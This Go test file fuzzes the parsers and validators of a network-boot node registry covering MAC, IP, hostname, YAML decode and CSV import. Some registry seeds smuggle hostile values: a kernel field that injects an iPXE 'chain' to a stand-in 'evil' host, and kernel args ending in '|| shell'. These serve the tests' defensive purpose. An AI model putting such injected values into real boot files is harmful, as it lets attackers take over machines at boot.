package slave

import (
	"bytes"
	"net/netip"
	"regexp"
	"strings"
	"testing"
	"unicode"
)

var canonicalMAC = regexp.MustCompile(`^[0-9a-f]{2}(:[0-9a-f]{2}){5}$`)

func FuzzParseMAC(f *testing.F) {
	for _, s := range []string{"00:02:A5:04:3B:66", "00-02-a5-04-3b-66", "0002.a504.3b66", "0002a5043b66", "", "::::::", "00:02:a5:04:3b:66:77:88"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got, err := ParseMAC(s)
		if err != nil {
			if strings.ContainsAny(err.Error(), "\n") && !strings.ContainsAny(s, "\n") {
				t.Errorf("multi-line error %q", err)
			}
			return
		}
		if !canonicalMAC.MatchString(got) {
			t.Fatalf("ParseMAC(%q) = %q, not canonical", s, got)
		}
		if again, err := ParseMAC(got); err != nil || again != got {
			t.Fatalf("ParseMAC not idempotent on %q: %q, %v", got, again, err)
		}
		if hex := strings.NewReplacer(":", "", "-", "", ".", "").Replace(strings.ToLower(strings.TrimSpace(s))); hex != strings.ReplaceAll(got, ":", "") {
			t.Fatalf("ParseMAC(%q) = %q changed the bytes", s, got)
		}
	})
}

func FuzzParseIP(f *testing.F) {
	for _, s := range []string{"192.168.1.21", "0.0.0.0", "255.255.255.255", "::1", "1.2.3", "01.2.3.4", " 10.0.0.1 "} {
		f.Add(s)
	}
	subnet := netip.MustParsePrefix("192.168.1.0/24")
	master := netip.MustParseAddr("192.168.1.1")
	f.Fuzz(func(t *testing.T, s string) {
		a, err := ParseIP(s)
		if err != nil {
			return
		}
		if !a.Is4() {
			t.Fatalf("ParseIP(%q) = %v, not IPv4", s, a)
		}
		if b, err := ParseIP(a.String()); err != nil || b != a {
			t.Fatalf("ParseIP round trip %v: %v, %v", a, b, err)
		}
		if CheckInSubnet(a, subnet, master) == nil {
			if !subnet.Contains(a) || a == master || a == subnet.Addr() || a == Broadcast(subnet) {
				t.Fatalf("CheckInSubnet accepted %v", a)
			}
		}
	})
}

func FuzzCheckHostname(f *testing.F) {
	for _, s := range []string{"slave21", "node-1.lan", "123", "-a", "a..b", "ä"} {
		f.Add(s)
	}
	valid := regexp.MustCompile(`^[A-Za-z0-9]([A-Za-z0-9-]*[A-Za-z0-9])?(\.[A-Za-z0-9]([A-Za-z0-9-]*[A-Za-z0-9])?)*$`)
	f.Fuzz(func(t *testing.T, s string) {
		if CheckHostname(s) != nil {
			return
		}
		if !valid.MatchString(s) || len(s) > 253 {
			t.Fatalf("CheckHostname accepted %q", s)
		}
		labels := strings.Split(s, ".")
		if strings.Trim(labels[len(labels)-1], "0123456789") == "" {
			t.Fatalf("CheckHostname accepted all-digit %q", s)
		}
	})
}

// FuzzDecode feeds arbitrary bytes to the registry decoder: it must never
// panic, and whatever it accepts must survive Encode and Decode unchanged.
func FuzzDecode(f *testing.F) {
	f.Add([]byte("slaves: []\n"))
	f.Add([]byte("slaves:\n  - ip: 192.168.1.21\n    mac: 00:02:A5:04:3B:66\n  - ip: 192.168.1.9\n    mac: 0002.a504.3b09\n    hostname: n9\n    comment: \"x: y\"\n"))
	f.Add([]byte("slaves:\n  - ip: 192.168.1.21\n    mac: 00:02:a5:04:3b:66\n    colour: red\n"))
	f.Add([]byte("{"))
	f.Add([]byte("slaves:\n  - ip: 192.168.1.22\n    mac: 00:02:a5:04:3b:67\n    kernel: \"6.1.0/vmlinuz\\nchain http://evil/x.ipxe\\n#\"\n"))
	f.Add([]byte("slaves:\n  - ip: 192.168.1.23\n    mac: 00:02:a5:04:3b:68\n    kernel_args: \"x=${net0/ip} || shell\"\n    boot_server: s1\n"))
	f.Add([]byte("slaves:\n  - ip: 192.168.1.24\n    mac: ff:ff:ff:ff:ff:ff\n    comment: \"\\e[2J\"\n"))
	st := Store{Path: "fuzz.yaml", Network: testNet}
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := st.Decode(data)
		if err != nil {
			if strings.Contains(err.Error(), "\n") {
				t.Errorf("multi-line error %q", err)
			}
			return
		}
		for _, s := range r.Slaves {
			checkAccepted(t, s)
		}
		out, err := Encode(r)
		if err != nil {
			t.Fatalf("Encode of a decoded registry: %v", err)
		}
		r2, err := st.Decode(out)
		if err != nil {
			t.Fatalf("re-Decode: %v\n%s", err, out)
		}
		out2, _ := Encode(r2)
		if !bytes.Equal(out, out2) {
			t.Fatalf("Encode/Decode not stable:\n%s\n---\n%s", out, out2)
		}
		DecodeRaw(data) // must not panic either
	})
}

func FuzzParseImport(f *testing.F) {
	f.Add([]byte("ip,mac\n192.168.1.21,00:02:a5:04:3b:66,n,c\n"), "")
	f.Add([]byte("- ip: 192.168.1.21\n  mac: x\n"), "yaml")
	f.Add([]byte("192.168.1.21,a\n\"unterminated,b\n"), "csv")
	f.Fuzz(func(t *testing.T, data []byte, format string) {
		lines, err := ParseImport(data, format)
		if err != nil {
			return
		}
		var r Registry
		for _, l := range lines {
			if l.Line < 1 {
				t.Fatalf("line %d for %+v", l.Line, l.Slave)
			}
			if r.Add(l.Slave, testNet) == nil {
				checkAccepted(t, r.Slaves[r.Index(l.Slave.IP)])
			}
		}
	})
}

// checkAccepted: nothing the registry accepts can break a line of a file it
// is rendered into, or is an address no card has.
func checkAccepted(t *testing.T, s Slave) {
	t.Helper()
	for _, v := range []string{s.Hostname, s.Kernel, s.KernelArgs, s.BootServer} {
		if strings.ContainsAny(v, "\x00\t\n\r\v\f$#|&;{}<>'\"\\`") {
			t.Fatalf("accepted %q in %+v", v, s)
		}
	}
	if strings.ContainsFunc(s.Comment, unicode.IsControl) || CheckUnicastMAC(s.MAC) != nil || CheckHostname(s.Hostname) != nil {
		t.Fatalf("accepted %+v", s)
	}
}
